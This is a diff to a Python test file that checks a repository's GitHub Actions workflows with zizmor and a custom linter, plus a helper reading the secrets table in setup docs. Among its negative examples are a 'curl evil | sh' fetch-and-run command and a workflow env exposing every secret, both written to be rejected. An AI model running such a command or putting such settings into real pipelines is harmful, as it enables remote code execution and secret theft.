@@ -99,6 +99,23 @@ def test_zizmor_refuses_a_secret_read_outside_an_environment(tmp_path: Path) -> 
                        ("every-secret", "secrets")}, found  # fmt: skip
 
 
+def test_zizmor_refuses_an_expression_in_a_run_and_the_whole_secrets_context(tmp_path: Path) -> None:
+    """What the repository's rules leave to zizmor (``make lint-workflows``): an expression in a
+    ``run:``, even one GitHub sets (template-injection, auditor persona), and a job given every
+    secret (overprovisioned-secrets)."""
+    (tmp_path / ".github" / "workflows").mkdir(parents=True)
+    broken = DEPLOY.replace("make lint", "make ${{ github.sha }}").replace(
+        "    steps:\n      - run: uv", "    env: {ALL: '${{ toJSON(secrets) }}'}\n    steps:\n      - run: uv"
+    )
+    (tmp_path / ".github" / "workflows" / "x.yml").write_text(textwrap.dedent(broken))
+    assert {"template-injection", "overprovisioned-secrets"} <= {
+        f["ident"] for f in json.loads(zizmor(tmp_path).stdout)
+    }
+    assert _check(tmp_path, broken) == [
+        "x.yml: job lint step 2: make target(s) ['${{', 'github.sha', '}}'] not in the Makefile"
+    ]  # and nothing about the secrets: zizmor's
+
+
 def test_workflow_and_dependabot_schemas() -> None:
     for schema, files in (
         ("vendor.github-workflows", FILES),
@@ -319,7 +336,6 @@ def test_good_example_passes(tmp_path: Path) -> None:
 
 
 BROKEN = [
-    ("expression in run", DEPLOY.replace("make lint", "make ${{ inputs.to }}"), "without expressions"),
     ("chained shell", DEPLOY.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
     ("unknown target", DEPLOY.replace("make lint", "make no-such-target"), "not in the Makefile"),
     ("unknown command", DEPLOY.replace("mlapp delivery promote", "mlapp nope"), "is not a command"),
@@ -431,6 +447,21 @@ def test_setup_page_documents_every_secret_variable_and_environment() -> None:
     assert not missing, f"docs/github-setup.md does not explain {missing}"
     missing_envs = sorted(e for e in environments if not re.search(rf"\b{re.escape(e)}\b", page))
     assert not missing_envs, f"docs/github-setup.md does not describe environments {missing_envs}"
+    # Where each is set: an environment params and the workflows no longer have (a rename or a
+    # removal, infra/README.md) is a setting nobody reads.
+    stale = table_scopes(page) - environments - {"repository"}
+    assert not stale, f"docs/github-setup.md sets variables and secrets in environments {sorted(stale)}"
+
+
+def table_scopes(page: str) -> set[str]:
+    """The environments column of the page's variables and secrets table (stage 3)."""
+    rows = re.findall(r"^\| `[^|]+` \| \w+ \| ([^|]+) \|", page, re.M)
+    return {scope.strip() for row in rows for scope in row.split(",")}
+
+
+def test_the_scopes_of_the_setup_table_are_read_per_row() -> None:
+    rows = "| `SERVICE_URL` | variable | staging, qa | the URL |\n| `T` | secret | repository | x |\n"
+    assert table_scopes(rows) == {"staging", "qa", "repository"}
 
 
 def test_the_pushed_image_is_built_from_the_context_make_image_context_writes() -> None:
